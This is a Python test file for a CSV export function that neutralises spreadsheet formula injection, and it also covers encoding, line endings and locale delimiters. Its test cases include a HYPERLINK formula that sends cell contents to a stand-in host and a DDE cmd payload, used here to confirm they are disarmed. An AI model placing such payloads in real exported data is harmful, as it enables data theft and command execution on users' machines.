"""Tables open in spreadsheets as they were written, and nothing in them runs there."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from journal_tool.exporting.table import disarm, render_table


def read(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_excel_is_told_the_letters_and_where_lines_end() -> None:
    assert render_table(("a", "b"), [("Zoë", 'one "x", two\nlines')]) == (
        b'\xef\xbb\xbfa,b\r\nZo\xc3\xab,"one ""x"", two\nlines"\r\n'
    )


@pytest.mark.parametrize(("language", "delimiter"), [("en", ","), ("de", ";"), ("fr", ";"), ("es", ";"), ("pt", ";")])
def test_cells_are_parted_as_excel_does_where_that_language_is_spoken(language: str, delimiter: str) -> None:
    assert read(render_table(("a", "b"), [("1,5", "x;y")], language), delimiter) == [["a", "b"], ["1,5", "x;y"]]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("https://x.example?"&A1)', '\'=HYPERLINK("https://x.example?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'=1"),
        ("+1-303-555-0100", "'+1-303-555-0100"),  # a sum, to Excel
        ("+1 303 555 0100", "+1 303 555 0100"),
        ("+49 (30) 123456", "+49 (30) 123456"),
        ("303-555-0100", "303-555-0100"),
        ("a=b", "a=b"),
        ("'=1", "''=1"),
        ("'90s club", "''90s club"),
        ("'s Gravenhage", "'s Gravenhage"),
        ("bell\x07\x1b[31m", "bell[31m"),
        ("", ""),
    ],
)
def test_what_begins_like_a_formula_is_made_text(cell: str, written: str) -> None:
    assert disarm(cell) == written


@given(st.text())
def test_no_cell_begins_like_a_formula_but_a_telephone_number(cell: str) -> None:
    written = disarm(cell)
    assert written[:1] not in ("=", "-", "@", "\t", "\r")
    assert not written.startswith("+") or set(written) <= set("+0123456789 .()")


def test_a_title_is_a_cell_too() -> None:
    assert read(render_table(("=1",), [])) == [["'=1"]]
